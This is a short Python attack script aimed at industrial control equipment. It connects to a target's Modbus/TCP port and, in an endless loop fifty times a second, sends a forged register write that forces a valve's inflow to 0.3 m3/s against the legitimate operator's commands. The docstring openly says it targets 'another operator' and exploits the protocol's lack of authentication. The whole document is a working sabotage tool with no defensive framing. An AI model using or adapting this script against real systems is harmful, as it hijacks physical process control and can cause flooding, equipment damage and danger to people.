"""Opens a valve of another operator, fifty times a second.

Modbus/TCP has no authentication: any client that reaches the device may write its registers.
"""

import socket
import struct
import sys
import time

INFLOW_M3_S = 0.3
# Transaction, protocol, length, unit; write registers: first, count, bytes, value.
FORGED = struct.pack(">HHHBBHHBf", 7, 0, 11, 1, 16, 0, 2, 4, INFLOW_M3_S)

with socket.create_connection((sys.argv[1], 502)) as valve:
    print("writing %.1f m3/s over whatever the operator asks for" % INFLOW_M3_S)
    while True:
        valve.sendall(FORGED)
        if not valve.recv(64):
            raise ConnectionError("the device closed the connection")
        time.sleep(0.02)
